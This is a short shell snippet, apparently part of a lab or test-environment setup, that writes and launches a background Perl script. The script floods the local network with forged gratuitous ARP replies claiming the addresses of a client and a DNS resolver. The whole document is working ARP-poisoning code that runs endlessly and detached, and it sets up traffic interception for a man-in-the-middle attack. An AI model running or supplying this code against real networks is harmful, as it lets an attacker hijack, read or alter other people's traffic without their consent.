# Tells everybody that the client and the resolver are here.
cat > /root/arp.pl << 'END'
use Socket;
socket(my $out, 17, SOCK_RAW, 0) or die "socket: $!";
my $index = `cat /sys/class/net/eth1/ifindex` + 0;
my $own = pack("H*", join("", split(/:/, `cat /sys/class/net/eth1/address` =~ s/\s//gr)));
my $to = pack("S n i S C C a8", 17, 0x0806, $index, 0, 0, 6, "\xff" x 6);
while (1) {
  for my $ip ("192.168.1.20", "192.168.1.99", "192.168.1.10") {
    my $arp = pack("n n C C n", 1, 0x0800, 6, 4, 2) . $own . inet_aton($ip) . "\xff" x 6 . inet_aton($ip);
    send($out, "\xff" x 6 . $own . "\x08\x06" . $arp, 0, $to);
  }
  select(undef, undef, undef, 0.05);
}
END
setsid perl /root/arp.pl > /dev/null 2>&1 &
sleep 1
